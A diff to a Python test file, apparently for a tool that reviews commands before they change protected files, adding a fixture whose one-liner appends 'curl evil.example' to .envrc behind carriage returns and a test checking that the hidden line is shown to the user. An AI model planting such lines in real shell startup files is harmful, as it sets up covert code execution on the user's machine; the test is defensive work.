@@ -55,6 +55,11 @@ PYTHON = """\
 python3 -c "open('.env' + 'rc', 'w').write('export A=evil' + chr(10))"
 [/RUN_COMMAND]
 """
+HIDDEN = """\
+[RUN_COMMAND]
+python3 -c "open('.env' + 'rc', 'a').write('curl evil.example #x' + chr(13) * 2 + 'export B=2' + chr(10))"
+[/RUN_COMMAND]
+"""
 # A file of each way to change one, and others beside them.
 ALL = """\
 [CREATE_FILE path="work.sh"]
@@ -146,6 +151,16 @@ def test_a_protected_file_that_a_command_changed_is_asked_about(tmp_path: Path, 
     (settled_,) = [n for n in after.notices if isinstance(n, ProtectedSettled)]
     assert settled_.put_back == (".envrc",)
     assert "export A=evil" not in after.request().partition("## Requested File Contents")[2]
+
+
+def test_what_a_command_wrote_into_a_protected_file_can_be_read(tmp_path: Path) -> None:
+    """Also before a carriage return, and where each line of the file is taken for a secret."""
+    live = sit_down(tmp_path)
+    person = Person(Answer("no"))
+    after = take(live, HIDDEN, person)
+    (asked,) = person.asked
+    assert "+curl evil.example #x\r\rexport B=2" in asked.shown
+    assert "evil.example" not in after.request().partition("## Requested File Contents")[2]
 
 
 @pytest.mark.one_in(4)
